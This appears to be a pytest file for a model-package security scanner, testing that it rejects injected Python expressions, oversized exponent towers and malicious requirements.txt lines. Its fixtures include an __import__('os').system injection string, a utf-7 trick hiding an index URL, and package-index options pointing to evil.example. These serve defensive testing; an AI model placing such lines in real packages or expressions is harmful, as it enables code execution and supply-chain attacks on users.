"""Ways round the readers of packages that an independent attacker found, each mended."""

from pathlib import Path

import pytest

from seamark.core.verdicts import Verdict
from seamark.scan.models import Scanner
from seamark.scan.models.packages.torch_expressions import objection


@pytest.mark.parametrize(
    "text",
    [
        """Max("__import__('os')" + ".system('echo seamark-harmless')")""",
        """Max(("echo", 1))""",
        """Max(["echo"])""",
        """Max("echo" if 1 else 2)""",
        """Max(x="echo")""",
        """'echo'""",
        "Pow(9, Pow(9, Pow(9, 9)))",
        "LShift(1, 99999999999)",
    ],
)
def test_sizes_hold_no_text_and_no_towers(text: str) -> None:
    assert objection(text)


@pytest.mark.parametrize(
    "text", ["Mul(Integer(2), Symbol('s77', positive=True, integer=True))", "Pow(Symbol('s0'), 2)"]
)
def test_what_torch_writes_goes_through(text: str) -> None:
    assert objection(text) == ""


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index https://evil.example/simple",
        "--find https://evil.example/",
        "--edit git+https://evil.example/x.git",
        "--requirem https://evil.example/r.txt",
        "evil.tgz",
        "evil-1.0.tar.xz",
        "packages/evil",
        "# -*- coding: utf-7 -*-\n+AC0ALQ-index-url http://evil.example",
        "-r /tmp/others.txt",
        "-r extras",
    ],
)
def test_requirements_as_pip_takes_them(tmp_path: Path, line: str) -> None:
    (tmp_path / "MLmodel").write_text("flavors: {}\n")
    (tmp_path / "extras").write_text("--index-url http://evil.example\n")
    (tmp_path / "requirements.txt").write_text(f"{line}\nnumpy==2.0\n")
    assert Scanner().scan_file(tmp_path / "requirements.txt").verdict is not Verdict.CLEAN


def test_honest_requirements_stay_clean(tmp_path: Path) -> None:
    (tmp_path / "base.txt").write_text("numpy>=2\n")
    text = "-r base.txt\n--extra-index-url https://download.pytorch.org/whl/cpu\ntorch==2.13.0\n"
    (tmp_path / "requirements.txt").write_text(
        text + "mlflow[extras]>=2 ; python_version > '3.9'\n"
    )
    assert Scanner().scan_file(tmp_path / "requirements.txt").verdict is Verdict.CLEAN
